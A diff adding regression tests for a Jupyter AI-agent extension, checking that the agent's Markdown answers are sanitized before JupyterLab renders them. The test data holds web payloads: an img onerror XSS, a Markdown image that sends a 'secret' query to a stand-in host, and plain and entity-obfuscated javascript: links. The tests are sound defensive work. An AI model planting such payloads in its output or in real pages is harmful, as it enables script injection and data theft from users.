@@ -263,3 +263,51 @@ def test_the_persons_own_endpoint_keeps_their_memory(ip, workspace: Path, monkey
     body, out = first_request_of_a_run(ip, workspace, monkeypatch, own_url=True)
     assert NOTE in body and "read_memory" in body
     assert "memory is off" not in out
+
+
+HOSTILE_ANSWER = (
+    "Done. <img src=x onerror=alert(1)> ![p](https://host.example/?q=secret) "
+    "[diff](javascript:alert(2)) [x]( JaVa&#115;cript:alert(3))\n"
+    "```python\nif a < b: print('<b>kept</b>')\n```\n"
+)
+
+
+def test_the_answer_markdown_holds_no_live_html_image_or_script_link(
+    ip, workspace: Path, monkeypatch
+) -> None:
+    # A cell the person runs has trusted outputs: JupyterLab renders their Markdown without
+    # its sanitizer, so before, this answer ran alert(1) in the page and fetched the image.
+    from IPython.utils.capture import capture_output
+
+    monkeypatch.setattr(ip, "kernel", object(), raising=False)
+    short = write_script(
+        workspace, "short", turn(HOSTILE_ANSWER, ("list_files", {"pattern": "*"})), turn("Ok.")
+    )
+    long = write_script(workspace, "long", turn(HOSTILE_ANSWER * 40))  # the streamed path, not the batch
+    for path in (short, long):
+        with capture_output() as captured:
+            ip.run_line_magic("agent", f'--provider scripted --script {path} --mode auto "hi"')
+        shown = [
+            o.data["text/markdown"] for o in captured.outputs if "Done." in o.data.get("text/markdown", "")
+        ]
+        assert shown
+        for md in shown:
+            outside_code = md.split("```python")[0]
+            assert "<img" not in outside_code and "&lt;img src=x" in outside_code
+            assert "![" not in md and "&#33;[p](https://host.example" in md
+            assert "](javascript" not in md and "]( JaVa" not in md
+            assert "if a < b: print('<b>kept</b>')" in md  # code stays code
+
+
+def test_inert_markdown_keeps_fences_unambiguous() -> None:
+    from pseudoclaude_nb.magics.inert_markdown import inert_markdown
+
+    # A fence inside a list item ends with the item in Markdown: its "content" is not code.
+    assert "&lt;img" in inert_markdown("- item\n  ```\n<img src=x onerror=alert(1)>\n```")
+    # An unclosed fence is closed, with a blank line before it; the closing line is the fence.
+    assert inert_markdown("text\n```\n<b>\n  ```  ") == "text\n\n```\n<b>\n```"
+    assert inert_markdown("a\n~~~\n<b>") == "a\n\n~~~\n<b>\n~~~"
+    assert (
+        inert_markdown("x < y, a<=b, <b> [r]: data:text/html,x")
+        == "x < y, a<=b, &lt;b> [r&#93;: data:text/html,x"
+    )
